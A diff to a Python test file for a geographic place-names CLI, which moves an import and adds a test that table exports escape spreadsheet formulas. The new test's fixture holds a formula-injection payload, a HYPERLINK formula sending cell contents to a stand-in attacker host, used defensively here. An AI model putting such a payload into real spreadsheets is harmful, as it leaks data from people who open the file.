@@ -194,7 +194,7 @@ def test_map_command_writes_offline_html(sample_db, tmp_path):
 
 
 def test_rename_queues_reprints_and_the_print_batch_clears_them(sample_db, tmp_path):
-    from geo.placenames import rename
+    from geo.placenames.lifecycle import rename
 
     db, _ = sample_db
     store = Store.open(f"sqlite:///{db}")
@@ -338,3 +338,18 @@ def test_backup_and_restore_commands(sample_db, tmp_path):
     assert r.returncode == 2 and "no-such.zip" in r.stderr
     r = run("backup", str(tmp_path / "no-such-folder" / "b.zip"), db=db)
     assert r.returncode == 2 and "no-such-folder" in r.stderr
+
+
+def test_cli_tables_neutralise_spreadsheet_formulas(tmp_path):
+    """`coverage --out` and `accessibility --out` write stored names: none may be a live formula (review 15)."""
+    import openpyxl
+    import pandas as pd
+
+    from api.cli.common import write_table
+
+    table = pd.DataFrame({"name": ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "新华社区"], "households": [3, 4]})
+    write_table(table, tmp_path / "t.csv")
+    write_table(table, tmp_path / "t.xlsx")
+    assert (tmp_path / "t.csv").read_text(encoding="utf-8-sig").splitlines()[1].startswith("\"'=HYPERLINK")
+    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx").active
+    assert sheet["A2"].data_type == "s" and sheet["A2"].value.startswith("'=") and sheet["B2"].value == 3
